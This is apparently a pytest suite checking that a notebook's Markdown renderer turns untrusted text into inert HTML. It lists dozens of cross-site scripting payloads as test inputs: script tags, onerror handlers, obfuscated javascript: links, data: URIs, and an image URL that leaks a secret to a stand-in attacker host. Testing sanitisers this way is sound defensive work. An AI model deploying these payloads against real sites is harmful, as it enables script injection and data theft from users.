"""The Markdown renderer turns untrusted text into HTML that cannot run anything."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from pi_notebook.widgets.markdown import (highlight_code, is_safe_url, markdown_for_transcript,
                                          render_markdown)

from widget_helpers import html_problems

PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://attacker.example/leak?secret=1)",
    "[ref]: javascript:alert(1)\n\n[x][ref]",
    "[x](javascript:alert(1) \"title\")",
    "`code` <img src=x onerror=alert(1)> `more`",
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "```<img src=x onerror=alert(1)>`",
    "`foo\nbar` <img src=x onerror=alert(1)> `baz`",
    "| a | b |\n|---|---|\n| `x | <img src=x onerror=alert(1)>` | y |",
    "> <img src=x onerror=alert(1)>",
    "- <script>alert(1)</script>",
    "\\<img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<!-- --><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>body{display:none}</style>",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\href{javascript:alert(1)}{click}$$",
    "$x<img src=x onerror=alert(1)>$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\color{red\" onmouseover=\"alert(1)}{x}$",
    "$$\n\\mathrm{<img src=x onerror=alert(1)>}\n$$",
    "$`x`$ and `$y$`",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_render_markdown_produces_no_live_html(payload: str) -> None:
    html = render_markdown(payload)
    assert html_problems(html) == []
    assert "<script" not in html.lower()
    # Dangerous schemes may appear only as visible text, never inside an attribute.
    assert "=\"javascript" not in html.lower() and "=\"vbscript" not in html.lower()


# A Markdown renderer that *does* pass raw HTML through, like JupyterLab does for the
# trusted Markdown outputs of a just-run cell.
_PERMISSIVE = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_transcript_markdown_is_safe_even_with_raw_html_enabled(payload: str) -> None:
    html = _PERMISSIVE.render(markdown_for_transcript(payload))
    assert html_problems(html) == [], html


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PAYLOADS + ["`", "``", "\n", "\n\n", "|", "\\", "x", " ", "```\n",
                                            "~~~\n", "    ", "<", "[", "](", ")", "!", "&", "#",
                                            "$", "$$", "\\frac{", "}", "^2", "\\alpha", "*", "_"]),
                max_size=12))
def test_random_mixtures_stay_safe(parts: list[str]) -> None:
    text = "".join(parts)
    assert html_problems(render_markdown(text)) == []
    assert html_problems(_PERMISSIVE.render(markdown_for_transcript(text))) == []


def test_ordinary_markdown_still_renders() -> None:
    html = render_markdown("# Title\n\nSome **bold**, *it*, `code` and [a link](https://example.com).\n\n"
                           "- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html and "<em>it</em>" in html
    assert "<code>code</code>" in html
    assert '<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">a link</a>' in html
    assert "<li>one</li>" in html
    assert "<td>1</td>" in html


def test_javascript_link_stays_visible_as_text() -> None:
    html = render_markdown("[click](javascript:alert(1))")
    # the link's text, inert (no href), as the saved transcript shows it; not its source
    assert html == '<p><a class="pi-link-refused">click</a></p>\n'
    assert "javascript" not in html


def test_code_blocks_are_highlighted_and_escaped() -> None:
    html = render_markdown("```python\nx = '<b>' # note\n```\n")
    assert html.startswith('<pre class="pi-hl"><code>')
    assert '<span class="n">x</span>' in html
    assert "&lt;b&gt;" in html and "<b>" not in html
    unknown = render_markdown("```nosuchlang\n<b>\n```\n")
    assert "&lt;b&gt;" in unknown and "<span" not in unknown


def test_highlight_code_unknown_or_empty_language() -> None:
    assert highlight_code("<x>", None) == '<pre class="pi-hl"><code>&lt;x&gt;</code></pre>'
    assert "&lt;x&gt;" in highlight_code("<x>", "no-such-language")


def test_remote_images_become_links_and_inline_png_is_kept() -> None:
    remote = render_markdown("![chart](https://example.com/c.png)")
    assert "<img" not in remote
    assert 'href="https://example.com/c.png"' in remote
    inline = render_markdown("![dot](data:image/png;base64,iVBORw0KGgo=)")
    assert '<img class="pi-md-img" src="data:image/png;base64,iVBORw0KGgo=" alt="dot">' in inline


@pytest.mark.parametrize("url,ok", [
    ("https://x.org", True), ("http://x.org", True), ("mailto:a@b.c", True), ("#top", True),
    ("page.html", True), ("//x.org/a", True), ("javascript:alert(1)", False),
    ("JavaScript:alert(1)", False), (" java\tscript:alert(1)", False), ("vbscript:x", False),
    ("data:text/html,x", False), ("file:///etc", False), ("ftp://x", False),
    ("&#106;avascript:x", False),
])
def test_is_safe_url(url: str, ok: bool) -> None:
    assert is_safe_url(url) is ok


def test_is_safe_url_for_images_only_allows_inline_raster_data() -> None:
    assert is_safe_url("data:image/png;base64,AAAA", image=True)
    assert is_safe_url("data:image/jpeg;base64,AAAA", image=True)
    assert not is_safe_url("data:image/svg+xml;base64,AAAA", image=True)
    assert not is_safe_url("https://x.org/a.png", image=True)


def test_transcript_keeps_code_and_markdown_readable() -> None:
    src = "Use `a<b` here.\n\n```python\nif a < b:\n    print('<ok>')\n```\n\n**done** & dusted"
    out = markdown_for_transcript(src)
    assert "```python\nif a < b:\n    print('<ok>')\n```" in out  # fenced code verbatim
    assert "<code>a&lt;b</code>" in out
    assert "**done** &amp; dusted" in out
    rendered = _PERMISSIVE.render(out)
    assert "<code>a&lt;b</code>" in rendered and "<strong>done</strong> &amp; dusted" in rendered


def test_math_renders_as_mathml_and_bad_math_as_code() -> None:
    html = render_markdown("Euler: $e^{i\\pi} + 1 = 0$, money: $5 and $6.")
    assert '<span class="pi-math"><math xmlns="http://www.w3.org/1998/Math/MathML" display="inline">' in html
    assert "money: $5 and $6." in html
    bad = render_markdown("broken $\\frac{a}{$ here")
    assert '<code class="pi-math-error">' in bad and "<math" not in bad
    block = render_markdown("$$\n\\sum_{i=1}^n i\n$$")
    assert '<p class="pi-math pi-math-block"><math' in block and 'display="block"' in block


@pytest.mark.parametrize("formula", ["$$x^2$$", "$$\\frac{$$"])  # converts / does not convert
def test_display_math_inside_a_line_cannot_open_an_html_block(formula: str) -> None:
    # Found by the mixture test: "$$…$$" followed by text on one line became a line starting
    # with "<div"; a renderer passing raw HTML then took every following line up to a blank one
    # as raw HTML, including a line our parser had kept verbatim as fenced code.
    text = formula + " tail ```\n```\n```\n<img src=x onerror=alert(1)>"
    out = markdown_for_transcript(text)
    assert not any(line.startswith(("<div", "<pre", "<p")) for line in out.split("\n"))
    assert html_problems(_PERMISSIVE.render(out)) == []
